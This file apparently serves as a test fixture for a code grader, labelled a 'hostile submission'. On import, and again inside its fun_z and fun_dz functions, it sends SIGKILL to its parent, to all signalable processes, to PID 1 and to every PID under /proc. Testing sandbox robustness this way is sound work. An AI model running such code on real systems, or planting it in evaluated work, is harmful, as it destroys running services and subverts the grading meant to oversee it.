"""Hostile submission: Tries to kill its parent, every process it can see, and the grader."""

import os
import signal


def _kill_everything():
    for target in (os.getppid(), -1, 1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    try:
        for entry in os.listdir("/proc"):
            if entry.isdigit() and int(entry) != os.getpid():
                try:
                    os.kill(int(entry), signal.SIGKILL)
                except OSError:
                    pass
    except OSError:
        pass


_kill_everything()


def fun_z(x, y):
    _kill_everything()
    return 0.0


def fun_dz(x, y):
    _kill_everything()
    return 0.0, 0.0
